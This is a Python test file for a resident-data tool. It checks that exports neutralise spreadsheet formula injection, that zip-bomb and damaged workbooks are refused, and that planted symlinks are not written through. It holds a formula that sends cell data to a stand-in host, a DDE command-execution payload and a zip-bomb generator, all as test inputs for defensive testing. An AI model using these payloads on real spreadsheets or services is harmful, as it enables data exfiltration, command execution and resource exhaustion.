"""Hostile files in, careless paths out.

* A cell, or a header, that a spreadsheet would run as a formula leaves every export as
  text: the error file of ``spm load --issues``, ``write_table`` in CSV and Excel.
* A zip bomb named ``.xlsx`` (200 KB that unzips to 200 MB of one letter, which the
  Excel reader held in memory: half a gigabyte of RAM for a 200 KB upload) and a
  damaged workbook are input errors, not a swollen process or a traceback.
* Files holding personal data (a data subject's file, an error file quoting NIKs, an
  export of residents) are readable by their owner only; a symbolic link planted at the
  target or at a predictable temporary name is replaced, never written through.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from store_helpers import World

from spm_core.cli import main
from spm_core.domain import FORMULA_TRIGGERS
from spm_core.errors import InputError
from spm_core.load import MAX_PART_RATIO, check_workbook, read_rows
from spm_core.sheets import write_table

HOSTILE = ('=HYPERLINK("http://contoh.invalid/?d="&A2,"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0")


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _no_formula(cells: list[str]) -> None:
    for value in cells:
        assert value[:1] not in FORMULA_TRIGGERS, value


# ------------------------------------------------------------------ formula injection


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_header_from_a_users_file_is_text_in_every_export(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"ekspor.{fmt}"
    write_table(["nik", HOSTILE[0]], [["3275014508900012", HOSTILE[1]]], fmt, out)
    if fmt == "csv":
        header, row = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    else:
        sheet = load_workbook(out).worksheets[0]
        assert all(cell.data_type == "s" for line in sheet.iter_rows() for cell in line)
        header, row = ([str(c.value) for c in line] for line in sheet.iter_rows())
    _no_formula(header + row)
    assert header[1] == "'" + HOSTILE[0]
    # Read back, the loader takes the mark off again.
    _, rows = read_rows(out)
    assert list(next(iter(rows)))[1] == HOSTILE[1]


def test_the_load_error_file_quotes_the_users_cells_as_text(
    world: World, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    posyandu = world.posyandu["mawar"].id
    people = tmp_path / "warga.csv"
    with people.open("w", newline="", encoding="utf-8") as handle:
        out = csv.writer(handle)
        out.writerow(["nik", "name", "sex", "birth_date", "posyandu_id", "rt", "rw"])
        out.writerow(["=1+2", HOSTILE[0], "X", "1990-08-05", posyandu, "1", "2"])
        out.writerow(["+6281234", "Budi", "L", "@1990", posyandu, "1", "2"])
    issues = tmp_path / "masalah.csv"
    status = main(["--lang", "en", "--db", db_url, "load", "residents", str(people),
                   "--area", "32.75", "--issues", str(issues)])  # fmt: skip
    capsys.readouterr()
    assert status == 1
    lines = list(csv.reader(io.StringIO(issues.read_text(encoding="utf-8"))))
    assert len(lines) > 3
    for line in lines:
        _no_formula(line)
    assert "'=1+2" in [line[3] for line in lines]
    assert _mode(issues) == 0o600


# ------------------------------------------------------------------ workbooks


def _bomb(path: Path, mib: int) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(b"<sst><si><t>")
            for _ in range(mib):
                part.write(b"A" * (1 << 20))
            part.write(b"</t></si></sst>")
    return path


def test_a_zip_bomb_workbook_is_refused_before_it_is_opened(tmp_path: Path) -> None:
    bomb = _bomb(tmp_path / "warga.xlsx", 100)
    assert bomb.stat().st_size < 1 << 20
    assert MAX_PART_RATIO * bomb.stat().st_size < 100 * (1 << 20)
    with pytest.raises(InputError) as refused:
        read_rows(bomb)
    (issue,) = refused.value.issues
    assert (issue.code, issue.field) == ("workbook-too-large", "source")
    assert "MiB" in issue.message_id
    assert "MiB" in issue.message_en


@pytest.mark.parametrize(
    "content", [b"PK\x03\x04 bukan zip", b"nik,name\n3275014508900012,Siti\n", b""]
)
def test_a_damaged_workbook_is_an_input_error(tmp_path: Path, content: bytes) -> None:
    damaged = tmp_path / "warga.xlsx"
    damaged.write_bytes(content)
    with pytest.raises(InputError) as refused:
        read_rows(damaged)
    assert [i.code for i in refused.value.issues] == ["not-a-workbook"]


def test_a_zip_that_is_no_workbook_is_an_input_error(tmp_path: Path) -> None:
    other = tmp_path / "warga.xlsx"
    with zipfile.ZipFile(other, "w") as archive:
        archive.writestr("catatan.txt", "bukan buku kerja")
    check_workbook(other)  # small and a zip: passes the size check …
    with pytest.raises(InputError) as refused:
        read_rows(other)  # … and the reader finds no workbook in it
    assert [i.code for i in refused.value.issues] == ["not-a-workbook"]


# ------------------------------------------------------------------ output paths


def test_a_subject_file_is_private_and_replaces_a_planted_link(
    world: World, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    siti = world.resident("mawar", name="Siti Tautan")
    folder = tmp_path / "keluar"
    folder.mkdir()
    victim = folder / "milik-orang-lain.txt"
    victim.write_text("jangan ditimpa", encoding="utf-8")
    target = folder / "siti.json"
    target.symlink_to(victim)
    status = main(["--lang", "en", "--db", db_url, "subject", "export", siti.id,
                   "--area", "32.75", "-o", str(target)])  # fmt: skip
    capsys.readouterr()
    assert status == 0
    assert victim.read_text(encoding="utf-8") == "jangan ditimpa"
    assert not target.is_symlink()
    assert json.loads(target.read_text(encoding="utf-8"))["resident"]["id"] == siti.id
    assert _mode(target) == 0o600
    assert sorted(p.name for p in folder.iterdir()) == ["milik-orang-lain.txt", "siti.json"]


def test_a_report_is_not_written_through_a_link_at_its_old_temporary_name(
    world: World, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    victim = tmp_path / "milik-orang-lain.txt"
    victim.write_text("jangan ditimpa", encoding="utf-8")
    (tmp_path / ".laporan.json.tmp").symlink_to(victim)  # the name the report used to use
    out = tmp_path / "laporan.json"
    status = main(["--lang", "en", "--db", db_url, "report", "--period", "2025",
                   "--area", "32.75", "--level", "kecamatan", "--format", "json",
                   "--out", str(out)])  # fmt: skip
    capsys.readouterr()
    assert status == 0
    assert victim.read_text(encoding="utf-8") == "jangan ditimpa"
    assert json.loads(out.read_text(encoding="utf-8"))["period"] == "2025"
    assert _mode(out) == 0o666 & ~_umask()


def _umask() -> int:
    current = os.umask(0)
    os.umask(current)
    return current


def test_an_export_of_rows_is_private_and_a_template_is_not(tmp_path: Path) -> None:
    from spm_core.sheets import write_template

    rows = tmp_path / "warga.csv"
    write_table(["nik", "name"], [["3275014508900012", "Siti"]], "csv", rows)
    assert _mode(rows) == 0o600
    template = tmp_path / "templat.csv"
    write_template("residents", "csv", template)
    assert _mode(template) == 0o666 & ~_umask()
